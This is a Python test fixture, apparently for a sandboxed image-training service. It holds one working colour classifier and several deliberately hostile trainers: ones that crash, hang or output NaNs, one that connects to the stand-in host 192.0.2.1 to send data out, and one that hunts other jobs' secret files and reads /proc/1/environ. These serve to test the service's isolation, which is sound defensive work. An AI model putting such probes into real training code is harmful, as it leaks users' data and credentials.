"""Trainers of a user's own, as they come in the input `code`: one that learns, and others that must not get through."""

import socket
import time
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import secret
import torch
from torch.nn import functional

from studio9_task.outputs import Written
from studio9_trainers.capabilities import Capabilities
from studio9_trainers.custom.framework import capability
from studio9_trainers.data.dataset import Picture
from studio9_trainers.data.decode import Pixels
from studio9_trainers.files import ModelFile, State, load_model, save_model
from studio9_trainers.loops.batches import Batch
from studio9_trainers.loops.loop import Loop
from studio9_trainers.models import Model, Scores
from studio9_trainers.truth import label_of


def network(labels: int) -> torch.nn.Module:
    """From the mean colour to a label."""
    return torch.nn.Linear(3, labels)


def colours(pixels: torch.Tensor) -> torch.Tensor:
    """The mean colours of pictures × 3 × height × width."""
    return pixels.float().mean(dim=(2, 3)) / 255 - 0.5


class Colour(Loop):
    """Labels by colour."""

    framework = "custom"
    largest = 64

    @property
    def capabilities(self) -> Capabilities:
        return capability(self.task)

    def create_model(self) -> torch.nn.Module:
        return network(len(self.labels))

    def losses(self, model: torch.nn.Module, batch: Batch) -> Mapping[str, torch.Tensor]:
        return {"loss": functional.cross_entropy(model(colours(batch.pixels)), self.targets(batch))}

    def validate(self, model: torch.nn.Module) -> tuple[dict[str, float], float]:
        hits = 0
        for batch in self.val_batches.epoch(0):
            hits += int((model(colours(batch.pixels)).argmax(1) == self.targets(batch)).sum())
        accuracy = hits / len(self.order.training[1].val)
        return {"accuracy": accuracy}, accuracy

    def export_model(self, weights: State) -> Model:
        config, _ = self.order.training
        return ColourModel(
            ModelFile(
                framework=self.framework, task=self.task, architecture=config.architecture, head=config.head,
                labels=self.labels, input_size=self.input_size, thresholds=config.thresholds, state=weights,
            )
        )  # fmt: skip

    def load(self, path: Path) -> Model:
        return ColourModel(load_model(path, self.framework, self.task))

    def targets(self, batch: Batch) -> torch.Tensor:
        return torch.tensor([self.labels.index(label_of(one) or "") for one in batch.pictures])


class ColourModel:
    """See Classifier."""

    def __init__(self, file: ModelFile) -> None:
        self.file, self.names, self.thresholds = file, file.labels, file.thresholds
        self.network = network(len(file.labels))
        self.network.load_state_dict(file.state)

    def save(self, path: Path) -> Written:
        return save_model(path, self.file)

    def classify(self, pictures: Iterable[tuple[Picture, Pixels]]) -> Iterator[tuple[Picture, Scores]]:
        for picture, pixels in pictures:
            given = torch.from_numpy(pixels.transpose(2, 0, 1).copy())[None]
            with torch.no_grad():
                yield picture, self.network(colours(given)).softmax(1)[0].double().numpy()


class Raising(Colour):
    def validate(self, model: torch.nn.Module) -> tuple[dict[str, float], float]:
        raise ZeroDivisionError("no pictures of cats")


class Hanging(Colour):
    def validate(self, model: torch.nn.Module) -> tuple[dict[str, float], float]:
        self.run.events.log("hanging")
        time.sleep(3600)
        return {}, 0.0


class Nonsense(Colour):
    """A model that gives probabilities of nothing."""

    def export_model(self, weights: State) -> Model:
        model: Any = super().export_model(weights)
        model.classify = lambda pictures: ((one, np.full(7, np.nan)) for one, _ in pictures)
        return model


class Calling(Colour):
    """Wants to send the pictures home."""

    def create_model(self) -> torch.nn.Module:
        socket.create_connection(("192.0.2.1", 443), 5)
        return super().create_model()


class Prying(Colour):
    """Looks where other jobs of the machine have their files, and into the process that watches it."""

    def create_model(self) -> torch.nn.Module:
        places = [Path("/job"), Path("/tmp"), Path("/dev/shm"), Path(secret.PATH).parents[2]]
        found = [str(path) for place in places for path in place.glob("**/marked-secret")]
        self.run.events.log(f"found {len(found)} secrets: {found}")
        Path("/proc/1/environ").read_bytes()
        return super().create_model()
